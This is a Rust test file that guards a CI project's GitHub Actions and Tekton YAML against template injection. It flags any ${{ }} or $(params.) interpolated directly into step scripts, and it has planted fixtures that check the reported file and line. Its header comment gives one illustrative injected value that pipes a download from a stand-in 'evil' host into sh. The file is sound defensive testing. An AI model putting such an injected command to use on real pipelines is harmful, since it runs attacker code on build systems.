//! No template injection: values a CI expands (inputs, event fields, params) reach scripts through
//! the environment or arguments, never pasted into a script's text, where a value such as
//! `"; curl evil | sh` would run as shell.
//!
//! Checked here, on the parsed YAML, with the offending file and line in the failure:
//! - GitHub: no `${{ … }}` in any step's `run:`, in `action.yml`, `.github/workflows/*.yml` and
//!   `examples/github/*.yml` (which users copy);
//! - Tekton: no `$(params.…)`, `$(tasks.…)` or `$(workspaces.…)` in a step's `script:` in the
//!   Pipelines and the samples (steps embedded in a `taskSpec`, at any depth).
//!
//! Checked elsewhere, and not repeated: GitLab's `script`, `before_script` and `after_script` in
//! every template (`tests/gitlab/conventions.rs`,
//! `scripts_only_call_the_cli_and_interpolate_nothing`), and the Tekton Tasks' steps, whose
//! script must be exactly `exec multiarch tekton VERB "$@"` (`tests/tekton/conventions.rs`,
//! `steps_only_call_the_cli_with_values_from_env`).

use serde_json::Value;

use crate::harness::repo_root;

const GITHUB_EXPRESSION: &[&str] = &["${{"];
const TEKTON_SUBSTITUTIONS: &[&str] = &["$(params.", "$(tasks.", "$(workspaces."];

/// One script checked, or one offence found.
#[derive(Debug, Default)]
struct Report {
    scripts: usize,
    offences: Vec<String>,
}

/// Every script under `key` of a step (an entry of a `steps` list, or a `stepTemplate`) in
/// `value`, at any depth: `(where, script)`.
fn step_scripts<'a>(value: &'a Value, key: &str, path: &str, found: &mut Vec<(String, &'a str)>) {
    match value {
        Value::Object(map) => {
            for (name, item) in map {
                let here = format!("{path}.{name}");
                match (name.as_str(), item) {
                    ("steps" | "sidecars", Value::Array(steps)) => {
                        for (i, step) in steps.iter().enumerate() {
                            let step_path = format!("{here}[{i}]");
                            if let Some(script) = step.get(key).and_then(Value::as_str) {
                                found.push((format!("{step_path}.{key}"), script));
                            }
                            step_scripts(step, key, &step_path, found);
                        }
                    }
                    ("stepTemplate", Value::Object(_)) => {
                        if let Some(script) = item.get(key).and_then(Value::as_str) {
                            found.push((format!("{here}.{key}"), script));
                        }
                        step_scripts(item, key, &here, found);
                    }
                    _ => step_scripts(item, key, &here, found),
                }
            }
        }
        Value::Array(items) => {
            for (i, item) in items.iter().enumerate() {
                step_scripts(item, key, &format!("{path}[{i}]"), found);
            }
        }
        _ => {}
    }
}

/// The 1-based line of `file`'s `text` that holds `script_line` (the script's line with the
/// offence), or `?` when the YAML wrote it differently (a quoted or folded scalar).
fn line_of(text: &str, script_line: &str) -> String {
    let needle = script_line.trim();
    text.lines()
        .position(|line| line.contains(needle))
        .map_or_else(|| "?".to_owned(), |i| (i + 1).to_string())
}

/// Checks the scripts under `key` of every step in `documents` (the YAML of `file`, `text`) for
/// any of `forbidden`.
fn check(
    file: &str,
    text: &str,
    documents: &[Value],
    key: &str,
    forbidden: &[&str],
    report: &mut Report,
) {
    for (i, document) in documents.iter().enumerate() {
        let mut scripts = Vec::new();
        step_scripts(document, key, &format!("document {i}"), &mut scripts);
        for (at, script) in scripts {
            report.scripts += 1;
            for script_line in script.lines() {
                if let Some(pattern) = forbidden.iter().find(|p| script_line.contains(*p)) {
                    report.offences.push(format!(
                        "{file}:{}: {at} has `{pattern}` in its text: `{}` (pass the value through env: instead)",
                        line_of(text, script_line),
                        script_line.trim()
                    ));
                }
            }
        }
    }
}

fn read(file: &str) -> String {
    std::fs::read_to_string(repo_root().join(file))
        .unwrap_or_else(|e| panic!("cannot read {file}: {e}"))
}

/// `dir`'s `*.yml` and `*.yaml` files, relative to the repository root, sorted.
fn yaml_in(dir: &str) -> Vec<String> {
    let Ok(entries) = std::fs::read_dir(repo_root().join(dir)) else {
        return Vec::new();
    };
    let mut files: Vec<String> = entries
        .map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|name| name.ends_with(".yml") || name.ends_with(".yaml"))
        .map(|name| format!("{dir}/{name}"))
        .collect();
    files.sort();
    files
}

fn check_github(file: &str, text: &str, report: &mut Report) {
    let documents = crate::tekton::parse_documents(text, file);
    check(file, text, &documents, "run", GITHUB_EXPRESSION, report);
}

fn check_tekton(file: &str, text: &str, report: &mut Report) {
    // The Tasks' steps are held to their exact script by the Tekton conventions test.
    let documents: Vec<Value> = crate::tekton::parse_documents(text, file)
        .into_iter()
        .filter(|document| document["kind"] != "Task")
        .collect();
    check(
        file,
        text,
        &documents,
        "script",
        TEKTON_SUBSTITUTIONS,
        report,
    );
}

#[test]
fn no_expression_in_any_github_run_step() {
    let mut files = vec!["action.yml".to_owned()];
    files.extend(yaml_in(".github/workflows"));
    files.extend(yaml_in("examples/github"));
    let mut report = Report::default();
    for file in &files {
        check_github(file, &read(file), &mut report);
    }
    assert!(
        report.offences.is_empty(),
        "template injection:\n{}",
        report.offences.join("\n")
    );
    assert!(
        report.scripts >= 5,
        "only {} run: steps found in {files:?}",
        report.scripts
    );
}

#[test]
fn no_substitution_in_any_embedded_tekton_step_script() {
    let mut report = Report::default();
    let files = crate::tekton::yaml_files();
    for file in &files {
        check_tekton(file, &read(file), &mut report);
    }
    assert!(
        report.offences.is_empty(),
        "template injection:\n{}",
        report.offences.join("\n")
    );
    assert!(
        files.iter().any(|f| f.contains("/samples/"))
            && files.iter().any(|f| f.contains("pipeline/")),
        "no Pipelines or samples among {files:?}"
    );
}

#[test]
fn the_checks_name_the_file_and_line_of_an_offence() {
    // The walkers find what they are for: an expression in a composite action's step, and a
    // param in a PipelineRun's embedded Task, each with its line.
    let action = "runs:\n  using: composite\n  steps:\n    - shell: bash\n      env:\n        SAFE: ${{ inputs.safe }}\n      run: |\n        echo \"$SAFE\"\n        echo ${{ inputs.name }}\n";
    let mut report = Report::default();
    check_github("planted/action.yml", action, &mut report);
    assert_eq!(report.scripts, 1);
    assert_eq!(report.offences.len(), 1, "{:?}", report.offences);
    assert!(
        report.offences[0].starts_with("planted/action.yml:9: document 0.runs.steps[0].run"),
        "{}",
        report.offences[0]
    );

    let run = "apiVersion: tekton.dev/v1\nkind: PipelineRun\nspec:\n  pipelineSpec:\n    tasks:\n      - name: t\n        taskSpec:\n          steps:\n            - name: s\n              image: busybox\n              env:\n                - name: X\n                  value: $(params.x)\n              script: |\n                echo \"$X\"\n                echo $(params.y)\n";
    let mut report = Report::default();
    check_tekton("planted/run.yaml", run, &mut report);
    assert_eq!(report.scripts, 1);
    assert_eq!(report.offences.len(), 1, "{:?}", report.offences);
    assert!(
        report.offences[0].starts_with(
            "planted/run.yaml:16: document 0.spec.pipelineSpec.tasks[0].taskSpec.steps[0].script"
        ),
        "{}",
        report.offences[0]
    );
}
